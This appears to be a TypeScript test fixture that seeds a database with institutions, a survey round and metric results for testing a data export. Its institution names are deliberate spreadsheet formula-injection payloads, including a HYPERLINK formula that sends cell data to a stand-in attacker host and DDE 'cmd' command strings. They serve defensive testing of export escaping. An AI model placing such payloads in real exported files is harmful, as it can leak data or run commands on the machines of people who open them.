import type { DataSource } from 'typeorm';

/**
 * A round with results written straight into metric_result (no worker), in the shape the apertura-2
 * worker stores them (contract §1): reasons in details, needed / needed_subjects / needed_reports,
 * validated_share, every scope (institution, municipality, state, national, level, type). One
 * institution keeps rows computed under apertura-1, as a round not yet rebuilt would.
 *
 * Institution names and one type come from a hostile import: text a spreadsheet would run.
 */
export const HOSTILE_NAMES = [
  '=HYPERLINK("http://atacante.example/?x="&A1,"ver")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-1+1',
  '\tTabulador al inicio',
] as const;
export const HOSTILE_TYPE = '=tipo()';
export const EXPORT_INDICATORS = ['I', 'T', 'P', 'TG', 'TC', 'PG', 'PC', 'I_G', 'DELTA_G'] as const;
export const APERTURA_1 = { id: 'mga-2017/apertura-1', version: '1.0.0' };
export const APERTURA_2 = { id: 'mga-2017/apertura-2', version: '2.0.0' };

export interface ExportRoundFixture {
  roundId: string;
  /** Institution ids of the hostile names, in HOSTILE_NAMES order. */
  hostileIds: string[];
  /** The institution whose rows are still apertura-1. */
  legacyInstitutionId: string;
  institutions: number;
}

/**
 * Status, reasons and needed sample of one value, picked deterministically from a hash `h` (0–999):
 * every status appears, a blank DELTA_G is unverified (not_estimable), and some values are
 * unreachable by sampling (needed null). `$ind` is the SQL expression of the indicator.
 */
function valueColumns(h: string, ind: string, area: boolean): string {
  const bucket = `(${h} % 4)`;
  const blank = `(${ind} = 'DELTA_G' AND ${bucket} = 3)`;
  return `
    CASE WHEN ${blank} THEN NULL ELSE (${h} % 1000) / 1000.0 END AS estimate,
    CASE WHEN ${blank} THEN NULL ELSE 0.04 END AS se,
    CASE WHEN ${blank} THEN NULL ELSE greatest(0, (${h} % 1000) / 1000.0 - 0.08) END AS lo,
    CASE WHEN ${blank} THEN NULL ELSE least(1, (${h} % 1000) / 1000.0 + 0.08) END AS hi,
    CASE WHEN ${blank} THEN NULL ELSE 0.04 / greatest((${h} % 1000) / 1000.0, 0.01) END AS cv,
    CASE ${bucket} WHEN 0 THEN 'conclusive' WHEN 1 THEN 'caution' WHEN 2 THEN 'inconclusive' ELSE 'not_validated' END AS status,
    CASE WHEN ${blank} THEN '{"reasons":["not_estimable"]}'
         ELSE CASE ${bucket} WHEN 0 THEN '{"reasons":[]}' WHEN 1 THEN '{"reasons":["cv_caution"]}'
              WHEN 2 THEN '{"reasons":["below_minimum","half_width_inconclusive"]}'
              ELSE '{"reasons":["no_citizen_data"],"missing":["no_self_report"]}' END END::json AS details,
    CASE ${bucket} WHEN 0 THEN 0 WHEN 3 THEN NULL ELSE 3 + ${h} % 7 END AS needed,
    CASE WHEN NOT ${area} OR ${bucket} = 3 THEN NULL WHEN ${bucket} = 0 THEN 0 ELSE 1 END AS needed_subjects,
    CASE ${bucket} WHEN 0 THEN 0 WHEN 3 THEN NULL ELSE 3 + ${h} % 7 - CASE WHEN ${area} THEN 1 ELSE 0 END END AS needed_reports,
    CASE WHEN ${area} THEN ((${h} * 7) % 100) / 100.0 ELSE NULL END AS validated_share`;
}

const COLS = `round_id, scope, scope_key, aggregation, indicator, estimate, se, lo, hi, cv, status, details, needed, needed_subjects, needed_reports,
  validated_share, n, population_size, formula, method_id, method_version, watermark, computed_at`;

/** Inserts institutions (the hostile ones plus `filler` plain ones, all in state 15), a round and its results. */
export async function exportRound(
  ds: DataSource,
  guarantorId: string,
  opts: { status?: 'published' | 'closed'; filler?: number } = {},
): Promise<ExportRoundFixture> {
  const status = opts.status ?? 'published';
  const filler = opts.filler ?? 20;
  const tag = Math.random().toString(36).slice(2, 8);
  const hostile: Array<{ id: string }> = await ds.query(
    `INSERT INTO institution (guarantor_id, key, name, type, level, cve_ent, cvegeo, email)
     SELECT $1, 'hostil-' || $3 || '-' || o, n, CASE WHEN o = 1 THEN $4 ELSE 'ayuntamiento' END, CASE WHEN o % 2 = 0 THEN 'estatal' ELSE 'municipal' END,
            '15', '15106', 'contacto-' || o || '@institucion.example'
     FROM unnest($2::text[]) WITH ORDINALITY AS h(n, o) ORDER BY o RETURNING id`,
    [guarantorId, [...HOSTILE_NAMES], tag, HOSTILE_TYPE],
  );
  await ds.query(
    `INSERT INTO institution (guarantor_id, key, name, type, level, cve_ent, cvegeo, email)
     SELECT $1, 'inst-' || $3 || '-' || g, 'Institución ' || g || ' de prueba, "exportación"', CASE WHEN g % 2 = 0 THEN 'ayuntamiento' ELSE 'dif municipal' END,
            CASE WHEN g % 3 = 0 THEN 'estatal' ELSE 'municipal' END, '15', '15' || lpad(((g % 125) + 1)::text, 3, '0'), 'c-' || g || '@institucion.example'
     FROM generate_series(1, $2::int) g`,
    [guarantorId, filler, tag],
  );
  const [qi] = await ds.query(
    `INSERT INTO questionnaire (guarantor_id, kind, slug, version, title, definition, checksum)
     VALUES ($1, 'institution', $2, 1, 'Cuestionario institucional', '{"pages":[]}', repeat('a', 64)) RETURNING id`,
    [guarantorId, `inst-${tag}`],
  );
  const [qc] = await ds.query(
    `INSERT INTO questionnaire (guarantor_id, kind, slug, version, title, definition, checksum)
     VALUES ($1, 'citizen', $2, 1, 'Cuestionario ciudadano', '{"pages":[]}', repeat('b', 64)) RETURNING id`,
    [guarantorId, `cit-${tag}`],
  );
  const [round] = await ds.query(
    `INSERT INTO round (guarantor_id, name, status, opens_at, closes_at, institution_questionnaire_id, citizen_questionnaire_id,
                        synthetic, opened_at, closed_at, published_at)
     VALUES ($1, $2, $3::varchar, now() - interval '60 days', now() - interval '10 days', $4, $5, false,
             now() - interval '60 days', now() - interval '10 days', CASE WHEN $3::varchar = 'published' THEN now() END)
     RETURNING id`,
    [guarantorId, `Ronda de exportación ${tag}`, status, qi.id, qc.id],
  );
  const roundId: string = round.id;
  await ds.query(
    `INSERT INTO round_institution (round_id, institution_id) SELECT $1, id FROM institution WHERE guarantor_id = $2`,
    [roundId, guarantorId],
  );
  const legacy = hostile[1].id;
  const common = (keyExpr: string) => `abs(hashtext(${keyExpr} || ind)::bigint)`;
  const provenance = `'${APERTURA_2.id}', '${APERTURA_2.version}', 77, now()`;

  // Institutions: apertura-2 rows, except the legacy institution's (apertura-1).
  await ds.query(
    `INSERT INTO metric_result (${COLS})
     SELECT $1::uuid, 'institution', k, 'unweighted', ind, v.*, 5, NULL, 'I = (T + P)/2',
            CASE WHEN k = $4 THEN '${APERTURA_1.id}' ELSE '${APERTURA_2.id}' END, CASE WHEN k = $4 THEN '${APERTURA_1.version}' ELSE '${APERTURA_2.version}' END, 77, now()
     FROM (SELECT id::text AS k FROM institution WHERE guarantor_id = $2) i CROSS JOIN unnest($3::text[]) ind
     CROSS JOIN LATERAL (SELECT ${valueColumns(common('k'), 'ind', false)}) v`,
    [roundId, guarantorId, [...EXPORT_INDICATORS], legacy],
  );
  const area = async (scope: string, keysSql: string, aggregations: string[], N: number): Promise<void> => {
    await ds.query(
      `INSERT INTO metric_result (${COLS})
       SELECT $1::uuid, '${scope}', k, a, ind, v.*, 3, ${N}, 'I: unweighted mean', ${provenance}
       FROM (${keysSql}) i CROSS JOIN unnest($3::text[]) ind CROSS JOIN unnest($4::text[]) a
       CROSS JOIN LATERAL (SELECT ${valueColumns(common('k || a'), 'ind', true)}) v`,
      [roundId, guarantorId, [...EXPORT_INDICATORS], aggregations],
    );
  };
  const one = ['unweighted'];
  const three = ['unweighted', 'mean_of_municipalities', 'population_weighted'];
  await area('municipality', `SELECT DISTINCT cvegeo::text AS k FROM institution WHERE guarantor_id = $2`, one, 40);
  await area(
    'state',
    `SELECT DISTINCT cve_ent::text AS k FROM institution WHERE guarantor_id = $2`,
    three,
    filler + HOSTILE_NAMES.length,
  );
  await area(
    'national',
    `SELECT 'national'::text AS k WHERE $2::uuid IS NOT NULL`,
    three,
    filler + HOSTILE_NAMES.length,
  );
  await area('level', `SELECT DISTINCT level::text AS k FROM institution WHERE guarantor_id = $2`, one, 10);
  await area('type', `SELECT DISTINCT type::text AS k FROM institution WHERE guarantor_id = $2`, one, 10);
  return {
    roundId,
    hostileIds: hostile.map((h) => h.id),
    legacyInstitutionId: legacy,
    institutions: filler + HOSTILE_NAMES.length,
  };
}
